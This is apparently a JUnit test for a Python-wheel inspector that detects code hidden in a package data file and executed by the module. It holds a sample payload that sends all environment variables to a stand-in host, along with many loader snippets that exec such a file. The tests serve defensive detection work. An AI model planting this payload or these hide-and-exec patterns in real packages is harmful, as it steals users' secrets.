package dev.gatehouse.inspection;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.advisories.KnownBad;
import dev.gatehouse.findings.Finding;
import dev.gatehouse.findings.TargetReport;
import dev.gatehouse.inspection.archive.Limits;
import dev.gatehouse.samples.SampleArtifact;
import dev.gatehouse.samples.WheelBuilder;
import java.time.InstantSource;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Code that lies in a file which is no module, and that a module reads and executes. */
class PackageDataTest {
  private static final String PAYLOAD =
      """
      import os, urllib.request
      urllib.request.urlopen('https://x.invalid', data=repr(dict(os.environ)).encode())
      """;

  private final Inspector inspector =
      new Inspector(KnownBad.builtIn(), Limits.DEFAULT, InstantSource.system());

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import pkgutil\nexec(pkgutil.get_data(__name__, 'notes.txt'))",
        "from importlib import resources\n"
            + "exec(resources.files(__package__).joinpath('notes.txt').read_text())",
        "from importlib.resources import files\nexec((files('acme') / 'notes.txt').read_bytes())",
        "import importlib.resources as r\nexec(r.read_text('acme', 'notes.txt'))",
        "import importlib.resources as r\nwith r.open_text('acme', 'notes.txt') as f:\n  exec(f.read())",
        "import pkg_resources\nexec(pkg_resources.resource_string(__name__, 'notes.txt'))",
        "import os\np = os.path.join(os.path.dirname(__file__), 'notes.txt')\nexec(open(p).read())",
        "import os\np = os.path.dirname(os.path.abspath(__file__)) + '/notes.txt'\nexec(''.join(open(p).readlines()))",
        "import pathlib\nexec(pathlib.Path(__file__).with_name('notes.txt').read_text())",
        "import pathlib\nexec((pathlib.Path(__file__).parent / 'notes.txt').open().read())",
        "text = ''\nimport pathlib\nfor line in open(pathlib.Path(__file__).parent / 'notes.txt'):\n  text += line\nexec(text)",
        "exec(__loader__.get_data(__file__[:-11] + 'notes.txt'))",
        "import importlib.machinery as m, os\np = os.path.join(os.path.dirname(__file__), 'notes.txt')\nm.SourceFileLoader('a', p).load_module()",
        "import runpy, os\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'notes.txt'))"
      })
  void whatIsReadFromAFileOfThePackageIsJudgedWhereItIsExecuted(String module) {
    assertThat(inspect(module, PAYLOAD).findings())
        .filteredOn(Finding::blocking)
        .extracting(finding -> finding.rule().name())
        .contains("code-environment-theft");
    assertThat(inspect(module, "__version__ = '1.0'\n").findings()).noneMatch(Finding::blocking);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import pkgutil\nLICENSE = pkgutil.get_data(__name__, 'notes.txt')",
        "import pkgutil\nexec('x = 1')\nNOTES = pkgutil.get_data(__name__, 'notes.txt').decode()",
        "import pkgutil\ndef f():\n  exec(pkgutil.get_data(__name__, 'notes.txt'))",
        "import pkgutil\nexec(pkgutil.get_data(__name__, 'other.txt'))"
      })
  void whatIsNotExecutedByItselfIsOnlyData(String module) {
    TargetReport report = inspect(module, PAYLOAD);

    assertThat(report.findings()).noneMatch(Finding::blocking);
    assertThat(report.problems()).isEmpty();
  }

  @Test
  void whatIsExecutedAndTooLargeToBeKeptIsAProblem() {
    String large = "#".repeat(300_000) + "\n" + PAYLOAD;

    assertThat(inspect("import pkgutil\nexec(pkgutil.get_data(__name__, 'notes.txt'))", large))
        .satisfies(report -> assertThat(report.problems()).hasSize(1));
    assertThat(inspect("import pkgutil\nX = pkgutil.get_data(__name__, 'notes.txt')", large))
        .satisfies(report -> assertThat(report.problems()).isEmpty());
  }

  private TargetReport inspect(String module, String data) {
    SampleArtifact wheel =
        WheelBuilder.wheel("acme", "1.0")
            .file("acme/__init__.py", (module + "\n").getBytes(UTF_8))
            .file("acme/notes.txt", data.getBytes(UTF_8))
            .build();
    return inspector.artifact(
        wheel.filename(), wheel.filename(), new SeekableInMemoryByteChannel(wheel.bytes()));
  }
}
